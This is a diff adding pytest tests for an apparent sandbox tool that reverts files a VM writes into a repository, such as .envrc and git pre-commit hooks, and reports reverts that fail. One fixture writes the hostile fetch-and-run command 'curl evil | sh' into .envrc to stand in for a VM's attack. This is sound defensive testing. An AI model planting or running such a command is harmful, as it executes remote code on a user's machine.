@@ -316,3 +316,32 @@ def test_a_snapshot_skips_fifos(checkout: Path) -> None:
     os.mkfifo(checkout / ".git/hooks/fifo")
     snapshot = guard_files.take_snapshot(checkout, [".git/hooks"])
     assert ".git/hooks/fifo" not in snapshot.entries
+
+
+def test_a_revert_that_fails_says_so_and_is_reported_again(fake: FakeRuntime, checkout: Path,
+                                                           monkeypatch: pytest.MonkeyPatch) -> None:
+    app = app_on(fake, checkout)
+    review(app, vm_may_write_after=True)
+    (checkout / ".envrc").write_text("curl evil | sh\n")
+
+    def refuse(*_args: object) -> None:
+        raise PermissionError(1, "Operation not permitted")
+
+    monkeypatch.setattr(guard_files, "restore", refuse)
+    review(app, vm_may_write_after=True)
+
+    assert "cannot revert .envrc: Operation not permitted" in messages(app)
+    assert [change.path for change in status(app).by_vm] == [".envrc"], "never recorded as trusted"
+
+
+def test_stop_and_kill_review_and_leave_later_host_changes_alone(fake: FakeRuntime, checkout: Path) -> None:
+    from opencode_sandbox.services.stopping import kill, stop
+
+    app = app_on(fake, checkout)
+    review(app, vm_may_write_after=True)
+    write_hook(checkout)
+    stop(app, False, lambda _line: None)
+    assert not (checkout / ".git/hooks/pre-commit").exists()
+    write_hook(checkout)  # the user's own, with no VM running
+    kill(app, False, lambda _line: None)
+    assert (checkout / ".git/hooks/pre-commit").exists()
